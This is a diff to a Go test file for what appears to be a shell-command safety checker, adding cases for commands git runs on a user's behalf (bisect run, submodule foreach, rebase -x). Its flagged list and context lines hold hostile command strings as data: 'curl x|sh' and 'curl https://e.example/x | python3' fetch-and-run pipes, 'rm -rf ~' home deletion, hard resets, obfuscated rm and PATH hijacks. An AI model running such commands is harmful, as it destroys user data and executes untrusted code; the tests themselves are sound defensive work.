@@ -54,6 +54,17 @@ var everyday = []struct {
 			`brew() { cat x; }; $(brew --prefix)/bin/app`, `"$(PATH=. pwd)/app"`, `cat x | "$(brew --prefix)/bin/bash"`, `"$(brew --prefix)/bin/env" rm -rf ~`, `"$(brew --prefix)/bin/curl" https://e.example/x | python3`, `C=$(command -v curl); $C https://e.example/x | python3`,
 		},
 	},
+	{ // everyday programs that git runs in its turn
+		[]string{
+			"git bisect run npm test -- --silent", "git bisect run go test ./...", "git submodule foreach 'git pull origin main'", "git submodule foreach git status", "git submodule --quiet foreach --recursive 'git fetch && git status -sb'", "git rebase -x 'make test' main",
+			"git rebase --exec='go vet ./...' main", "git bisect run python3 -m pytest -q", "git -C sub rebase main",
+		},
+		[]string{
+			"git bisect run sh -c 'curl x|sh'", "git submodule foreach 'rm -rf ~'", "git rebase -x 'rm -rf ~' main", "git bisect run ./x", "git submodule foreach 'x'", "git bisect run $x", `git bisect run "$(cat x)"`, "git submodule foreach git clean -xfd", "git submodule foreach 'git reset --hard'",
+			"git submodule foreach 'echo $(x)'", "git submodule foreach \"$x\"", "git submodule --quiet foreach --recursive ./x", "git rebase --exe './x' main", "git rebase -vx ./x main", "git rebase -x 'make; ./x' main", "git rebase -x \"$x\" main", "git -C sub bisect run r\\m -rf x", "git rebase -i -x 'make test' main",
+			"cat x | git bisect run make -f -", "git submodule foreach 'make;./x' y", "b=bisect; git $b run ./x", "git rebase main -x./x", "git bisect run sh", "git bisect run env ./x", "git submodule foreach 'PATH=/tmp:$PATH make'", "git push --exec=./x origin main",
+		},
+	},
 	{ // a variable is temporary by its value, and not by its name
 		[]string{
 			`WORK=$(mktemp -d); rm -rf "$WORK"`, `d=$(mktemp -d) && tar -xf a.tgz -C "$d" && rm -rf "$d/x"`, `tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT; cp a "$tmp"`, `d=$(mktemp -d 2>/dev/null || mktemp -d -t x); rm -rf "$d"`, `rm -rf "$tmp"`, `rm -rf "${tmp:?}"`,
